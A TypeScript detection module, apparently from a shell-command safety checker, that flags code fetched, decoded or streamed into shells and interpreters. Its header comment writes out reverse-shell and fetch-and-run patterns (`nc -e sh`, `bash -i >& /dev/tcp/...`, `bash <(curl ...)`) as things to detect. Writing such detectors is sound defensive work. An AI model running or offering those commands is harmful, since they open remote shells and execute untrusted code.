// Code that arrives at run time and is executed: fetched or decoded content piped into a shell or
// interpreter, `bash <(curl ...)`, `sh -c "$(curl ...)"`, heredocs and here-strings fed to a
// shell, a shell reading a network connection (`nc -e sh h p`, `bash -i >& /dev/tcp/h/p 0>&1`),
// and `bash -c` itself (the original asks for every `-c` string).
import type { ExecutedCommand, Substitution } from '../analysis-types';
import { hasOption, parseArgs } from '../flags';
import { FETCHERS, isInterpreter, isShell } from '../program-names';
import type { RuleHit, RuleId } from '../rule-catalog';
import { describeScriptInvocation } from '../script-invocations';
import { args, canonicalWords } from './rule-helpers';
import type { Rule } from './rule-types';

/** Programs that run a string as shell code (`eval STR`, `ssh host STR`, `su -c STR`). */
const SCRIPT_HOSTS = new Set(['eval', 'ssh', 'su', 'runuser', 'env', 'watch', 'flock', 'script', 'sg', 'parallel']);

export const remoteCodeRules: Rule = (input) => {
  const hits: RuleHit[] = [];
  for (const command of input.analysis.commands) {
    const program = command.program;
    const hit = (id: RuleId) => hits.push({ id, canonical: canonicalWords(command), command: command.text });
    if (program === null) {
      if (fetchedSubstitution(command.argv[0]?.substitutions ?? [])) hit('D29');
      continue;
    }
    const source = describeScriptInvocation(program, args(command))?.source;
    if ((SCRIPT_HOSTS.has(program) || source?.mode === 'inline') && args(command).some((word) => fetchedSubstitution(word.substitutions))) hit('D29');
    const runsCode = isShell(program) || isInterpreter(program) || program === 'source' || program === '.';
    if (!runsCode) continue;
    if (isShell(program) && source?.mode === 'inline') hit('D25');
    const scriptWord = program === 'source' || program === '.' ? command.argv[1] : source?.mode === 'file' ? source.file : undefined;
    const processSubstitution = scriptWord?.substitutions.find((substitution) => substitution.kind === '<(');
    if (processSubstitution) hit(fetchedSubstitution([processSubstitution]) ? 'D28' : 'N09');
    if (source?.mode === 'stdin' || ((program === 'source' || program === '.') && command.argv[1]?.value === '/dev/stdin')) {
      const id = stdinRule(command, isShell(program) || program === 'source' || program === '.');
      if (id) hits.push({ id, canonical: feedCanonical(command), command: command.text });
    }
  }
  return hits;
};

/** The key names what is fed too: approving `curl a | sh` must not approve `curl b | sh`. */
function feedCanonical(command: ExecutedCommand): string {
  const feed = command.stdin;
  const consumer = canonicalWords(command);
  if (feed?.kind === 'pipe') return [...feed.producers.map(canonicalWords), consumer].join(' | ');
  if (feed?.kind === 'heredoc' || feed?.kind === 'herestring') return `${consumer} <<< ${feed.text.trim().replace(/\s+/g, ' ')}`;
  if (feed?.kind === 'process-substitution') return `${consumer} < ${feed.word.value}`;
  if (feed?.kind === 'network') return `${consumer} < ${feed.address}`;
  return consumer;
}

function fetchedSubstitution(substitutions: readonly Substitution[]): boolean {
  return substitutions.some((substitution) => substitution.commands.some((inner) => inner.program !== null && FETCHERS.has(inner.program)));
}

/** What feeds a shell or interpreter reading its program from stdin. */
function stdinRule(command: ExecutedCommand, shell: boolean): RuleId | undefined {
  const feed = command.stdin;
  if (!feed) return undefined;
  switch (feed.kind) {
    case 'heredoc':
      return shell ? 'D63' : 'D62';
    case 'herestring':
      return shell ? 'N06' : 'D62';
    case 'process-substitution':
      return fetchedSubstitution(feed.word.substitutions) ? 'D28' : 'N09';
    case 'pipe': {
      if (feed.producers.some((producer) => producer.program !== null && FETCHERS.has(producer.program))) return 'D27';
      const decoder = feed.producers.map(decoderRule).find((id) => id !== undefined);
      return decoder ?? 'N05';
    }
    case 'network':
      return 'N34';
    default:
      return undefined;
  }
}

const DECOMPRESSORS = new Set(['gunzip', 'zcat', 'bunzip2', 'bzcat', 'unxz', 'xzcat', 'unzstd', 'zstdcat', 'lz4cat', 'uncompress', 'rev', 'uudecode']);
const COMPRESSORS = new Set(['gzip', 'bzip2', 'xz', 'zstd', 'lz4', 'base64', 'base32', 'basenc']);

/** Decoders that hide what a piped command really is (D30–D33). */
function decoderRule(producer: ExecutedCommand): RuleId | undefined {
  const program = producer.program;
  if (program === null) return undefined;
  const parsed = parseArgs(args(producer));
  if (program === 'xxd') return hasOption(parsed, '-r', '-revert') ? 'D31' : undefined;
  if (program === 'tr') return 'D32';
  if (program === 'openssl') return hasOption(parsed, '-d', '--decode') || args(producer).some((word) => word.value === '-d') ? 'D33' : undefined;
  if (DECOMPRESSORS.has(program)) return 'D30';
  if (COMPRESSORS.has(program) && hasOption(parsed, '-d', '-D', '--decode', '--decompress')) return 'D30';
  if (program === 'printf' && /\\(?:x[0-9a-fA-F]|[0-7]{3})/.test(args(producer)[0]?.value ?? '')) return 'D30';
  return undefined;
}
